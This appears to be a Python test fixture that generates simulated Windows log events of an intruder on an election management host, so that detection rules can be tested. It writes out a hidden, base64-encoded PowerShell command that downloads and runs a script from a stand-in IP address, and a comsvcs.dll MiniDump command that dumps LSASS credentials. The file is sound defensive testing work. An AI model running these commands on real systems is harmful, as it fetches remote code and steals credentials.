"""Play an intruder's tools on the EMS host: USB stick, encoded PowerShell, memory of LSASS."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from hisn.testing.sources import windows
from hisn.testing.sources.windows import POWERSHELL, SECURITY, SYSMON, Fields
from hisn.testing.stream import Attack, Record, Stage

_USER = "VESNA\\vendor.support"
_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _record(stage: Stage, minutes: int, log: tuple[str, str], number: int, data: Fields) -> Record:
    """Return an event so many minutes after the polls have closed."""
    time = stage.calendar.start_of("counting") + minutes * 60_000_000
    return Record(time, windows.event(time, stage.county.ems_host, log, number, data))


def _usb(stage: Stage) -> Iterator[Record]:
    yield _record(stage, 84, SECURITY, 6416, {
        "SubjectUserName": "EMS-VESNA-01$",
        "DeviceId": "USBSTOR\\DISK&VEN_GENERIC&PROD_FLASH_DISK&REV_8.07\\4C53",
        "DeviceDescription": "Generic Flash Disk USB Device", "ClassName": "DiskDrive",
    })  # fmt: skip
    yield _record(stage, 86, SYSMON, 1, windows.process_created(
        _USER, "E:\\tools\\collect.exe", "E:\\tools\\collect.exe -o E:\\out",
        "C:\\Windows\\explorer.exe"))  # fmt: skip


def _encoded(stage: Stage) -> Iterator[Record]:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.249/a.ps1')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    yield _record(stage, 93, SYSMON, 1, windows.process_created(
        _USER, _SHELL, f"powershell.exe -nop -w hidden -enc {blob}",
        "C:\\Windows\\System32\\cmd.exe"))  # fmt: skip
    yield _record(stage, 93, POWERSHELL, 4104,
                  {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": script, "Path": ""})  # fmt: skip


def _lsass(stage: Stage) -> Iterator[Record]:
    yield _record(stage, 101, SYSMON, 10, {
        "SourceImage": "C:\\ProgramData\\spool\\helper.exe",
        "TargetImage": "C:\\Windows\\System32\\lsass.exe",
        "GrantedAccess": "0x1fffff", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|UNKNOWN(00000000)",
        "SourceUser": _USER, "TargetUser": "NT AUTHORITY\\SYSTEM",
    })  # fmt: skip
    yield _record(stage, 102, SYSMON, 1, windows.process_created(
        _USER, "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\l.dmp full",
        "C:\\Windows\\System32\\cmd.exe"))  # fmt: skip


ATTACKS: tuple[Attack, ...] = (
    Attack("ems-usb", "USB storage on the EMS host and a program started from it",
           windows.PATH, ("ems_usb_storage", "ems_program_from_removable_drive"), _usb),
    Attack("ems-encoded-powershell", "Encoded PowerShell that loads a script",
           windows.PATH, ("ems_powershell_encoded", "ems_powershell_download"), _encoded),
    Attack("ems-lsass", "Memory of LSASS read on the EMS host",
           windows.PATH, ("ems_lsass_access", "ems_lsass_dump"), _lsass),
)  # fmt: skip
